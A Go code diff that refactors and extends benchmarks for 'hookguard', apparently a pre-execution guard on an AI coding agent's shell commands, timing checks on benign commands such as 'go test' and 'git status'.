-		e := &hookguard.Event{Runner: ev.Runner, Group: ev.Group, Home: ev.Home, Root: ev.Root, Cwd: ev.Cwd,
+		paths.CacheResolutions() // as the hook entry does for each event
+		e := &hookguard.Event{Runner: hookguard.Claude, Group: hookguard.PreShell, Home: w.home, Root: w.root, Cwd: w.root,
 			Command: "go test ./... && git status --short | head -20"}
 		if v, _ := g.Check(context.Background(), e); v.Decision != hookguard.Allow {
 			b.Fatal(v.Reason)
@@ -113,11 +498,22 @@ func BenchmarkTypicalCommand(b *testing.B) {
 
 // The guard's own share, with the shell parse (shared by every guard) already done.
 func BenchmarkTypicalCommandParsed(b *testing.B) {
-	ev := event(b, hookguard.PreShell)
-	ev.Command = "go test ./... && git status --short | head -20"
+	benchParsed(b, "go test ./... && git status --short | head -20")
+}
+
+// A command that writes a file: hookguard's own files are found once for the event.
+func BenchmarkWriteCommandParsed(b *testing.B) {
+	benchParsed(b, "go test ./... && git status --short | head -20 > out.txt")
+}
+
+func benchParsed(b *testing.B, cmd string) {
+	w := newWorld(b)
+	ev := w.event(hookguard.PreShell)
+	ev.Command = cmd
+	shell.Of(ev)
 	g := &Guard{}
-	g.Check(context.Background(), ev)
 	for b.Loop() {
+		paths.CacheResolutions()
 		if v, _ := g.Check(context.Background(), ev); v.Decision != hookguard.Allow {
 			b.Fatal(v.Reason)
 		}
